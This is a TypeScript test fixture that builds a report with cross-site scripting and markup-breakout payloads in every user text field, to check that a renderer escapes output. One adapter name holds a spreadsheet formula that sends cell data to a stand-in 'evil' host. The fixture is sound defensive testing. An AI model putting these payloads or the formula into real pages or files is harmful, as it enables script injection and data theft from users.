// Script and markup payloads, and the fixture report with one in every user text field
// (document, prompt, generations, names, folders, file names, device): the escape tests'
// and the Chromium test's input.
import type { Report } from '../../shared/report.js';
import { cloneReport } from './fixture-report.js';

export const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</textarea><iframe src="javascript:alert(1)">',
  '</style><script>alert(2)</script>',
  '<!--',
  ']]><script>alert(3)</script>',
  '| pipe | [link](javascript:alert(1)) `code`',
];
export const PAYLOAD = PAYLOADS.join(' ');
/** The payloads that are markup (the last one only attacks Markdown tables and links). */
export const MARKUP = PAYLOADS.filter((p) => /[<>]/.test(p));

/** The fixture with a payload in every user-provided text field. */
export function poisoned(base: Report): Report {
  const r = cloneReport(base);
  r.document.text = `${PAYLOAD}\n${r.document.text}`;
  r.prompt.text = PAYLOAD;
  r.model.name = `model ${PAYLOAD}`;
  r.model.dir = `/models/${PAYLOAD}`;
  r.model.sha256[`${PAYLOAD}.json`] = '0'.repeat(64);
  r.tokenizer.dir = `/tok/${PAYLOAD}`;
  r.backend.device = PAYLOAD;
  r.backend.fallbackReason = PAYLOAD;
  r.createdAt = PAYLOAD;
  r.timings.push({ stage: PAYLOAD, ms: 1 });
  r.adapters.forEach((a, i) => {
    a.name = `=HYPERLINK("http://evil/"&A1) ${i} ${PAYLOAD}`;
    a.dir = `/adapters/${PAYLOAD}`;
    a.targetModules = [PAYLOAD];
    for (const s of a.strategies) {
      s.generation.text = PAYLOAD;
      s.generation.pieces = s.generation.pieces.map((_, j) => PAYLOADS[j % PAYLOADS.length]!);
    }
  });
  return r;
}
